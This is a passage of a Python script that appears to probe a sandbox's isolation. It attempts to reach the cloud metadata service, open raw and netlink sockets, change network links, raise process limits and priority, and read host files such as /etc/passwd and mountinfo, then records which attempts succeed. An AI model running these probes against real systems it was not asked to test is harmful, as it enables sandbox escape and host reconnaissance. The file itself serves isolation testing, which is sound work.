add("tcp_to_ipv6_loopback_of_the_host", "sockets", tcp, "::1")
add("tcp_to_ipv4_in_ipv6", "sockets", tcp, "::ffff:127.0.0.1")
for _index, _address in enumerate((HINTS["addresses"] + ["192.0.2.1"] * 2)[:2]):
    add(f"tcp_to_another_address_of_the_host_{_index + 1}", "sockets", tcp, _address)


@attempt("sockets")
def udp_to_loopback_of_the_host() -> Optional[str]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as near:
        near.settimeout(0.4)
        near.connect(("127.0.0.1", HINTS["udp"]))
        near.send(b"probe")
        return secret_in(near.recv(200), "a datagram")


@attempt("sockets", disturbs=True)
def metadata_service() -> Optional[str]:
    with socket.socket() as near:
        near.settimeout(0.4)
        near.connect(("169.254.169.254", 80))
        return "connected"


@attempt("sockets", disturbs=True)
def name_server() -> Optional[str]:
    with open("/etc/resolv.conf") as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver") and len(line.split()) > 1]
    query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x07example\x03com\x00\x00\x01\x00\x01"
    for server in [*servers[:1], "127.0.0.53"]:
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as near:
            near.settimeout(0.4)
            with contextlib.suppress(OSError):
                near.connect((server, 53))
                near.send(query)
                return f"{server} answers {len(near.recv(512))} bytes"
    return None


@attempt("sockets")
def route_to_the_outside() -> Optional[str]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as near:
        near.connect(("192.0.2.1", 9))  # sends nothing
        return f"from {near.getsockname()[0]}"


@attempt("sockets")
def interfaces_of_the_host() -> Optional[str]:
    found = [name for _, name in socket.if_nameindex() if name in HINTS["interfaces"] and name != "lo"]
    return f"{found}" if found else None


@attempt("sockets")
def addresses_of_interfaces_in_sys() -> Optional[str]:
    found = [name for name in os.listdir("/sys/class/net") if name in HINTS["interfaces"] and name != "lo"]
    return f"{found}" if found else None


@attempt("sockets")
def unix_sockets_of_the_host_by_name() -> Optional[str]:
    found = [line for line in read("/proc/net/unix", 1 << 20).splitlines() if HINTS["abstract"].encode() in line]
    return f"{len(found)} lines" if found else None


def a_socket(family: int, kind: int, protocol: int = 0) -> Optional[str]:
    socket.socket(family, kind, protocol).close()
    return "the socket opens"


def in_host_network(call: Callable[..., Optional[str]], *words: Any) -> Optional[str]:
    """A raw or packet socket only counts if the run has the host's network."""
    found = call(*words)
    return found if is_the_hosts("net") else None


add("socket_raw", "sockets", in_host_network, a_socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
add("socket_packet", "sockets", in_host_network, a_socket, 17, socket.SOCK_RAW, 0x300)
add("socket_vsock", "sockets", a_socket, 40, socket.SOCK_STREAM)
add("socket_kernel_crypto", "sockets", a_socket, 38, socket.SOCK_SEQPACKET)
add("socket_bluetooth", "sockets", a_socket, 31, socket.SOCK_RAW, 1)
add("socket_tipc", "sockets", a_socket, 30, socket.SOCK_STREAM)
add("socket_rds", "sockets", a_socket, 21, socket.SOCK_SEQPACKET)
add("socket_can", "sockets", a_socket, 29, socket.SOCK_RAW, 1)
add("socket_x25", "sockets", a_socket, 9, socket.SOCK_SEQPACKET)
add("socket_ax25", "sockets", a_socket, 3, socket.SOCK_DGRAM)
add("socket_smc", "sockets", a_socket, 43, socket.SOCK_STREAM)
add("socket_xdp", "sockets", in_host_network, a_socket, 44, socket.SOCK_RAW)
add("netlink_audit", "sockets", in_host_network, a_socket, socket.AF_NETLINK, socket.SOCK_RAW, 9)


@attempt("sockets")
def netlink_events_of_devices() -> Optional[str]:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15) as near:
        near.bind((0, 1))
    return "device events can be received" if is_the_hosts("net") else None


@attempt("sockets")
def netlink_change_of_the_network() -> Optional[str]:
    """RTM_NEWLINK for an interface that does not exist fails with ENODEV after the permission check."""
    if not is_the_hosts("net"):
        raise Absent("the network is the run's own")
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as near:
        near.settimeout(0.4)
        near.send(struct.pack("IHHII", 32, 16, 5, 1, 0) + struct.pack("BxHiII", 0, 0, 99999, 0, 0))
        answer = struct.unpack("i", near.recv(200)[16:20])[0]
    if answer in (-errno.EPERM, -errno.EACCES):
        raise OSError(-answer, os.strerror(-answer))
    return f"permitted: {answer}"


# Limits


@attempt("limits")
def raise_own_priority() -> Optional[str]:
    before = os.getpriority(os.PRIO_PROCESS, 0)
    if before <= -20:
        raise Absent("it is the highest")
    os.setpriority(os.PRIO_PROCESS, 0, before - 1)
    return f"priority {before - 1}"


@attempt("limits")
def raise_limit_of_open_files() -> Optional[str]:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    pair = (ctypes.c_uint64 * 2)(hard, hard + 1)
    checked(LIBC.prlimit(0, resource.RLIMIT_NOFILE, pair, None))
    return f"{hard + 1} files"


@attempt("limits")
def schedule_in_real_time() -> Optional[str]:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return "SCHED_FIFO"


@attempt("limits")
def never_be_killed_for_memory() -> Optional[str]:
    before = int(read("/proc/self/oom_score_adj"))
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write(str(max(-1000, before - 1)))
    return f"oom_score_adj {read('/proc/self/oom_score_adj')!r}" if int(read("/proc/self/oom_score_adj")) < before else None


@attempt("limits")
def core_files_outside() -> Optional[str]:
    pattern = read("/proc/sys/kernel/core_pattern").decode().strip()
    size = resource.getrlimit(resource.RLIMIT_CORE)[1]
    return f"a crash here calls {pattern} on the host" if pattern.startswith("|") and size else None


# Information about the host


def same_as_host(name: str, call: Callable[[], str]) -> Optional[str]:
    found = call()
    return f"{found!r}" if found and found == HINTS["facts"].get(name) else None


def text(path: str) -> Callable[[], str]:
    return lambda: read(path).decode("utf-8", "replace").strip()


add("host_name", "facts", same_as_host, "hostname", socket.gethostname)
add("host_name_in_etc", "facts", same_as_host, "hostname", text("/etc/hostname"))
add("machine_id", "facts", same_as_host, "machine-id", text("/etc/machine-id"))
add("boot_id", "facts", same_as_host, "boot-id", text("/proc/sys/kernel/random/boot_id"))
add("product_uuid", "facts", same_as_host, "product-uuid", text("/sys/class/dmi/id/product_uuid"))
add("kernel_command_line", "facts", same_as_host, "cmdline", text("/proc/cmdline"))


@attempt("facts")
def users_of_the_host() -> Optional[str]:
    found = [line.split(":")[0] for line in text("/etc/passwd")().splitlines()]
    common = [name for name in found if name in HINTS["users"]]
    return f"{common}" if common else None


@attempt("facts")
def paths_of_the_host_in_mountinfo() -> Optional[str]:
    data = read("/proc/self/mountinfo", 1 << 20).decode("utf-8", "replace")
    found = [word for word in data.split() if word.startswith(HINTS["store"]) or "/.scratch" in word or "/docker/" in word]
    return f"{len(found)}, for example {found[0][:120]}" if found else None


@attempt("facts")
def control_group_of_the_host() -> Optional[str]:
    found = [line for line in text("/proc/self/cgroup")().splitlines() if line.split(":", 2)[2] not in ("/", "")]
    return found[0] if found else None


@attempt("facts")
def disks_of_the_host() -> Optional[str]:
    return text("/proc/partitions")().splitlines()[-1] if len(text("/proc/partitions")().splitlines()) > 2 else None


@attempt("facts")
def mounts_of_the_host() -> Optional[str]:
    return each(lambda name: secret_in(read(f"/proc/{target()}/{name}", 1 << 20), name), ("mountinfo", "mounts"))


@attempt("facts")
def timers_of_the_host() -> Optional[str]:
    return content_of("/proc/timer_list")


@attempt("facts")
def scheduler_of_the_host() -> Optional[str]:
    return each(content_of, ("/proc/sched_debug", "/sys/kernel/debug/sched/debug"))


@attempt("facts")
def number_of_the_process_on_the_host() -> Optional[str]:
    """/proc/self/sched and NSpid show the host's PID if namespaces leak."""
    with open("/proc/self/status") as file:
        found = next((line.split()[1:] for line in file if line.startswith("NSpid")), [])
    return f"{found}" if len(found) > 1 or (CONTROL and found) else None


# Running the attempts


def run(attempt: Attempt) -> Dict[str, Any]:
    """Make an attempt in a separate process. Returns its outcome."""
    near, far = os.pipe()
    start = time.monotonic()
    child = os.fork()
    if child == 0:
        os.close(near)
        signal.alarm(LIMIT)
        for number in (signal.SIGURG, signal.SIGUSR1, signal.SIGUSR2, signal.SIGIO):
            signal.signal(number, signal.SIG_IGN)
        try:
            evidence = attempt.call()
            outcome = ("reached", evidence) if evidence else ("refused", "")
        except Sent as done:
            outcome = ("sent", str(done))
        except Absent as reason:
            outcome = ("absent", str(reason))
        except OSError as failed:
            outcome = ("refused", errno.errorcode.get(failed.errno or 0, "") + f" {failed}")
        except BaseException as failed:
            outcome = ("error", f"{type(failed).__name__}: {failed}")
        with contextlib.suppress(OSError):
            os.write(far, json.dumps(outcome).encode()[:60000])
        os._exit(0)
    os.close(far)
    answer = b""
    while select.select([near], [], [], LIMIT + 1)[0]:
        more = os.read(near, 1 << 16)
        if not more:
            break
        answer += more
    os.close(near)
    with contextlib.suppress(OSError):
        os.kill(child, signal.SIGKILL)
    _, status = os.waitpid(child, 0)
    if answer:
        outcome = tuple(json.loads(answer))
    else:
        outcome = ("refused", f"ended by signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status) else "no answer")
    taken = round(time.monotonic() - start, 3)
    return {
        "name": attempt.name,
        "category": attempt.category,
        "status": outcome[0],
        "evidence": outcome[1][:400],
        "seconds": taken,
    }


def main(categories: List[str]) -> None:
    for number in (signal.SIGURG, signal.SIGUSR1, signal.SIGUSR2, signal.SIGIO, signal.SIGTTOU, signal.SIGWINCH):
        signal.signal(number, signal.SIG_IGN)
    HINTS["_own_descriptors"] = [int(name) for name in os.listdir("/proc/self/fd")]
    HINTS["_own_descriptors"] = [fd for fd in HINTS["_own_descriptors"] if os.path.lexists(f"/proc/self/fd/{fd}")]
    HINTS["_parent"] = os.getppid()
    in_categories = [attempt for attempt in ATTEMPTS if not categories or attempt.category in categories]
    results = [run(attempt) for attempt in in_categories if not (CONTROL and attempt.disturbs)]
    with open("probe_results.json", "w") as file:
        json.dump(results, file, indent=1)
    counts = {
        status: sum(result["status"] == status for result in results)
        for status in ("reached", "sent", "refused", "absent", "error")
    }
    print("probe:", len(results), "attempts", counts, flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
